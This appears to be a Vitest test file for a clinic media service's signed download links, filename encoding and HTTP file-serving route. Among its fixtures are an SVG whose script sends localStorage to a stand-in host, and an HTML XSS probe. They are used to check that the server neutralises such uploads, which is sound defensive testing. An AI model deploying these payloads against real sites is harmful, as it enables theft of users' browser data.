import { createHmac } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { MikroORM } from '@mikro-orm/postgresql';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openOrm } from '../src/db/orm.ts';
import { FixedClock } from '../src/lib/clock.ts';
import { newRequest, runRequest } from '../src/lib/request-context.ts';
import { contentDisposition, signMediaLink, verifyMediaToken } from '../src/media/links.ts';
import { type MediaStore, pgMediaStore } from '../src/media/store.ts';
import { serveMedia } from '../src/server/media-route.ts';
import { createClinic } from '../src/services/clinics/clinics.ts';
import { testDatabase } from './helpers.ts';
import { pdf, png } from './media-files.ts';

const SECRET = 'media-link-test-secret';
const T0 = new Date('2026-11-01T10:00:00.000Z');
const HOUR = 3600_000;
const link = { clinicId: 7, key: 'med_42', filename: 'Report.pdf', mime: 'application/pdf' };
const E = Date.parse('2026-11-01T20:00:00Z') / 1000;
const tokenOf = (url: string) => url.slice(url.lastIndexOf('/') + 1);
const CSP = "sandbox; default-src 'none'";
const OCTETS = 'application/octet-stream';
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x/"+JSON.stringify(localStorage))</script></svg>',
);
const HTML = Buffer.from('<!doctype html><script>alert(document.domain)</script>');
const XML = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
);
/** A GIF89a header, a 1×1 image: what the sniffer reads of a GIF. */
const GIF = Buffer.concat([
  Buffer.from('GIF89a', 'latin1'),
  Buffer.from([1, 0, 1, 0, 0, 0, 0]),
  Buffer.from(';'),
]);

/** A token in the documented format, signed like the service signs (to reach the checks after the signature). */
function signed(payload: unknown, secret = SECRET): string {
  const p = Buffer.from(JSON.stringify(payload)).toString('base64url');
  return `${p}.${createHmac('sha256', secret).update(`media-link.v1.${p}`).digest('base64url')}`;
}

describe('signMediaLink / verifyMediaToken', () => {
  it('a link is <base>/media/<token>, valid 10 hours, and verifies to its payload', () => {
    const r = signMediaLink(SECRET, 'https://api.example.com/', link, T0);
    expect(r.url).toMatch(/^https:\/\/api\.example\.com\/media\/[A-Za-z0-9_-]+\.[A-Za-z0-9_-]{43}$/);
    expect(r.expires_at).toBe('2026-11-01T20:00:00.000Z');
    expect(verifyMediaToken(SECRET, tokenOf(r.url), T0)).toEqual({
      ...link,
      expiresAt: new Date('2026-11-01T20:00:00.000Z'),
    });
  });

  it('the payload is the documented JSON', () => {
    const token = tokenOf(signMediaLink(SECRET, 'https://x', link, T0).url);
    expect(JSON.parse(Buffer.from(token.split('.')[0], 'base64url').toString())).toEqual({
      c: 7,
      k: 'med_42',
      f: 'Report.pdf',
      m: 'application/pdf',
      e: E,
    });
    expect(token).toBe(signed({ c: 7, k: 'med_42', f: 'Report.pdf', m: 'application/pdf', e: E }));
  });

  it('valid until the last second, refused from expires_at on (injected time)', () => {
    const r = signMediaLink(SECRET, 'https://x', link, T0);
    const token = tokenOf(r.url);
    expect(verifyMediaToken(SECRET, token, new Date(T0.getTime() + 10 * HOUR - 1))).not.toBeNull();
    expect(verifyMediaToken(SECRET, token, new Date(r.expires_at))).toBeNull();
    expect(verifyMediaToken(SECRET, token, new Date(T0.getTime() + 48 * HOUR))).toBeNull();
  });

  it('a ttl of its own', () => {
    const r = signMediaLink(SECRET, 'https://x', link, T0, 60_000);
    expect(r.expires_at).toBe('2026-11-01T10:01:00.000Z');
    expect(verifyMediaToken(SECRET, tokenOf(r.url), new Date(T0.getTime() + 60_000))).toBeNull();
  });

  it('an altered payload is refused (another clinic, a later expiry)', () => {
    const token = tokenOf(signMediaLink(SECRET, 'https://x', link, T0).url);
    const [, sig] = token.split('.');
    for (const changed of [{ c: 8 }, { e: 1893456000 }, { k: 'med_43' }]) {
      const p = Buffer.from(
        JSON.stringify({
          c: 7,
          k: 'med_42',
          f: 'Report.pdf',
          m: 'application/pdf',
          e: E,
          ...changed,
        }),
      ).toString('base64url');
      expect(verifyMediaToken(SECRET, `${p}.${sig}`, T0)).toBeNull();
    }
  });

  it('any other last character of the signature is refused (only the canonical encoding passes)', () => {
    const token = tokenOf(signMediaLink(SECRET, 'https://x', link, T0).url);
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    const accepted = [...alphabet].filter((ch) => verifyMediaToken(SECRET, token.slice(0, -1) + ch, T0));
    expect(accepted).toEqual([token.slice(-1)]);
  });

  it('a token signed with another secret is refused', () => {
    const token = tokenOf(signMediaLink('another secret', 'https://x', link, T0).url);
    expect(verifyMediaToken(SECRET, token, T0)).toBeNull();
    expect(verifyMediaToken('', token, T0)).toBeNull();
  });

  it.each([
    ['empty', ''],
    ['one part', 'abc'],
    ['three parts', 'a.b.c'],
    ['empty signature', 'abc.'],
    ['empty payload', '.abc'],
    ['not base64url', 'a+b.c/d'],
    ['too long', `${'a'.repeat(5000)}.b`],
  ])('a malformed token (%s) is refused', (_, token) => {
    expect(verifyMediaToken(SECRET, token, T0)).toBeNull();
  });

  it.each([
    ['not JSON', null],
    ['clinic 0', { c: 0, k: 'med_1', f: null, m: 'image/png', e: 1893456000 }],
    ['clinic as text', { c: '7', k: 'med_1', f: null, m: 'image/png', e: 1893456000 }],
    ['empty key', { c: 7, k: '', f: null, m: 'image/png', e: 1893456000 }],
    ['filename a number', { c: 7, k: 'med_1', f: 5, m: 'image/png', e: 1893456000 }],
    ['no mime', { c: 7, k: 'med_1', f: null, e: 1893456000 }],
    ['fractional expiry', { c: 7, k: 'med_1', f: null, m: 'image/png', e: 1893456000.5 }],
    ['an array', [7, 'med_1']],
  ])('a signed payload of the wrong shape (%s) is refused', (_, payload) => {
    const token =
      payload === null
        ? (() => {
            const p = Buffer.from('{not json').toString('base64url');
            return `${p}.${createHmac('sha256', SECRET).update(`media-link.v1.${p}`).digest('base64url')}`;
          })()
        : signed(payload);
    expect(verifyMediaToken(SECRET, token, T0)).toBeNull();
  });

  it('signing without a secret is a programming error', () => {
    expect(() => signMediaLink('', 'https://x', link, T0)).toThrow(/secret/);
  });
});

describe('contentDisposition', () => {
  it.each([
    ['inline', null, 'inline'],
    ['attachment', 'Report.pdf', 'attachment; filename="Report.pdf"'],
    [
      'attachment',
      'Résumé "final".pdf',
      `attachment; filename="R_sum_ _final_.pdf"; filename*=UTF-8''R%C3%A9sum%C3%A9%20%22final%22.pdf`,
    ],
    [
      'attachment',
      "it's (50%)*.pdf",
      `attachment; filename="it's (50_)*.pdf"; filename*=UTF-8''it%27s%20%2850%25%29%2A.pdf`,
    ],
    [
      'attachment',
      'back\\slash.pdf',
      `attachment; filename="back_slash.pdf"; filename*=UTF-8''back%5Cslash.pdf`,
    ],
    [
      'attachment',
      'סיכום.pdf',
      `attachment; filename="_____.pdf"; filename*=UTF-8''%D7%A1%D7%99%D7%9B%D7%95%D7%9D.pdf`,
    ],
  ] as const)('%s, %j → %s', (type, name, expected) => {
    expect(contentDisposition(type, name)).toBe(expected);
  });
});

describe('serveMedia over HTTP', () => {
  let orm: MikroORM;
  let store: MediaStore;
  let base: string;
  let clinicA: number;
  let clinicB: number;
  let imageKey: string;
  let docKey: string;
  const clock = new FixedClock(T0);

  beforeAll(async () => {
    const db = await testDatabase();
    orm = await openOrm(db.url);
    store = pgMediaStore(orm.em);
    const server = http.createServer((req, res) => {
      const scope = newRequest(clock, (name, value) => res.setHeader(name, value));
      runRequest(scope, () => {
        serveMedia(req, res, { secret: SECRET, store, clock }).catch((err) => {
          res.writeHead(500);
          res.end(String(err));
        });
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    afterAll(async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
      await orm.close();
      await db.drop();
    });
    const clinic = (name: string) =>
      createClinic(orm.em.fork(), { name, kind: 'dental', mode: 'test', country: 'IL' }).then((c) => c.id);
    clinicA = await clinic('A');
    clinicB = await clinic('B');
    imageKey = await store.put(clinicA, png(), 'image/png');
    docKey = await store.put(clinicA, pdf(), 'application/pdf');
  });

  const sign = (p: { clinicId?: number; key: string; filename?: string | null; mime: string }) =>
    signMediaLink(
      SECRET,
      base,
      { clinicId: p.clinicId ?? clinicA, key: p.key, filename: p.filename ?? null, mime: p.mime },
      clock.now(),
    );

  async function expectNotFound(res: Response) {
    expect(res.status).toBe(404);
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('content-security-policy')).toBe(CSP);
    expect(await res.json()).toEqual({
      error: {
        code: 'not_found',
        message: expect.stringMatching(/altered or expired/),
        request_id: expect.stringMatching(/^req_/),
        doc_url: '/errors#not_found',
      },
    });
  }

  it('an image: 200, its bytes, inline, cached privately for the time left, nosniff', async () => {
    clock.set(T0);
    const { url } = sign({ key: imageKey, mime: 'image/png' });
    clock.advance(HOUR);
    const res = await fetch(url);
    expect(res.status).toBe(200);
    expect(Object.fromEntries(res.headers)).toMatchObject({
      'content-type': 'image/png',
      'content-length': String(png().length),
      'content-disposition': 'inline',
      'cache-control': 'private, max-age=32400',
      'x-content-type-options': 'nosniff',
      'content-security-policy': CSP,
    });
    expect(Buffer.from(await res.arrayBuffer()).equals(png())).toBe(true);
  });

  it('a document: an attachment under its name, RFC 5987-encoded', async () => {
    clock.set(T0);
    const { url } = sign({ key: docKey, mime: 'application/pdf', filename: 'Résumé "final".pdf' });
    const res = await fetch(`${url}?download=1`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="R_sum_ _final_.pdf"; filename*=UTF-8''R%C3%A9sum%C3%A9%20%22final%22.pdf`,
    );
    expect(res.headers.get('cache-control')).toBe('private, max-age=36000');
    expect(Buffer.from(await res.arrayBuffer()).equals(pdf())).toBe(true);
  });

  it('a document without a name is document.pdf', async () => {
    clock.set(T0);
    const res = await fetch(sign({ key: docKey, mime: 'application/pdf' }).url);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="document.pdf"');
  });

  it('HEAD: the headers, no body', async () => {
    clock.set(T0);
    const res = await fetch(sign({ key: docKey, mime: 'application/pdf', filename: 'a.pdf' }).url, {
      method: 'HEAD',
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-length')).toBe(String(pdf().length));
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="a.pdf"');
    expect((await res.arrayBuffer()).byteLength).toBe(0);
  });

  it('an altered link is a JSON 404', async () => {
    clock.set(T0);
    const { url } = sign({ key: imageKey, mime: 'image/png' });
    const [payload, sig] = tokenOf(url).split('.');
    const other = JSON.parse(Buffer.from(payload, 'base64url').toString());
    const forged = Buffer.from(JSON.stringify({ ...other, k: docKey })).toString('base64url');
    await expectNotFound(await fetch(`${base}/media/${forged}.${sig}`));
    await expectNotFound(await fetch(`${url.slice(0, -2)}AA`));
  });

  it('an expired link is a JSON 404 (the clock moves, nobody sleeps)', async () => {
    clock.set(T0);
    const { url, expires_at } = sign({ key: imageKey, mime: 'image/png' });
    clock.set(new Date(Date.parse(expires_at) - 1000));
    const last = await fetch(url);
    expect(last.status).toBe(200);
    expect(last.headers.get('cache-control')).toBe('private, max-age=1');
    await last.arrayBuffer();
    clock.set(expires_at);
    await expectNotFound(await fetch(url));
  });

  it('a genuine link to an unknown object, or to another clinic, is a JSON 404', async () => {
    clock.set(T0);
    await expectNotFound(await fetch(sign({ key: 'med_999999', mime: 'image/png' }).url));
    await expectNotFound(await fetch(sign({ clinicId: clinicB, key: imageKey, mime: 'image/png' }).url));
  });

  it.each(['/media/', '/media', '/media/a/b', '/media/garbage'])('%s is a JSON 404', async (path) => {
    await expectNotFound(await fetch(`${base}${path}`));
  });

  // Rows put straight into the store, as a row from before types were sniffed (or one written by
  // hand) would be: what is served follows the bytes, never the row's word alone (issue 34).
  it.each([
    {
      what: 'an SVG stored as image/svg+xml',
      bytes: SVG,
      stored: 'image/svg+xml',
      type: OCTETS,
      disposition: 'attachment',
    },
    {
      what: 'HTML stored as text/html',
      bytes: HTML,
      stored: 'text/html',
      type: OCTETS,
      disposition: 'attachment',
    },
    {
      what: 'HTML stored as image/png',
      bytes: HTML,
      stored: 'image/png',
      type: OCTETS,
      disposition: 'attachment',
    },
    {
      what: 'a PNG stored as image/svg+xml',
      bytes: png(),
      stored: 'image/svg+xml',
      type: OCTETS,
      disposition: 'attachment',
    },
    {
      what: 'XML (an SVG with a prolog)',
      bytes: XML,
      stored: 'application/xml',
      type: 'application/xml',
      disposition: 'attachment',
    },
    { what: 'a GIF', bytes: GIF, stored: 'image/gif', type: 'image/gif', disposition: 'inline' },
    { what: 'a PNG', bytes: png(), stored: 'image/png', type: 'image/png', disposition: 'inline' },
  ])(
    '$what is served as $type, $disposition, under the sandbox CSP',
    async ({ bytes, stored, type, disposition }) => {
      clock.set(T0);
      const key = await store.put(clinicA, bytes, stored);
      for (const method of ['GET', 'HEAD']) {
        const res = await fetch(sign({ key, mime: stored }).url, { method });
        expect(res.status).toBe(200);
        expect(Object.fromEntries(res.headers)).toMatchObject({
          'content-type': type,
          'content-disposition': disposition,
          'content-security-policy': CSP,
          'x-content-type-options': 'nosniff',
        });
        const body = Buffer.from(await res.arrayBuffer());
        expect(body.equals(method === 'GET' ? bytes : Buffer.alloc(0))).toBe(true);
      }
    },
  );

  it('a recording in a WebM container is served as the audio/webm it was kept as, an attachment under its name', async () => {
    clock.set(T0);
    // The EBML header with DocType "webm": what the sniffer reads of a WebM file.
    const webm = Buffer.from(
      '1a45dfa39f4286810142f7810142f2810442f381084282847765626d4287810442858102',
      'hex',
    );
    const key = await store.put(clinicA, webm, 'audio/webm');
    const res = await fetch(sign({ key, mime: 'audio/webm', filename: 'call_1.webm' }).url);
    expect(res.headers.get('content-type')).toBe('audio/webm');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="call_1.webm"');
  });

  it('another method is a 405 naming GET and HEAD', async () => {
    clock.set(T0);
    const res = await fetch(sign({ key: imageKey, mime: 'image/png' }).url, { method: 'POST' });
    expect(res.status).toBe(405);
    expect(res.headers.get('allow')).toBe('GET, HEAD');
    expect(res.headers.get('content-security-policy')).toBe(CSP);
    expect((await res.json()).error.code).toBe('method_not_allowed');
  });
});
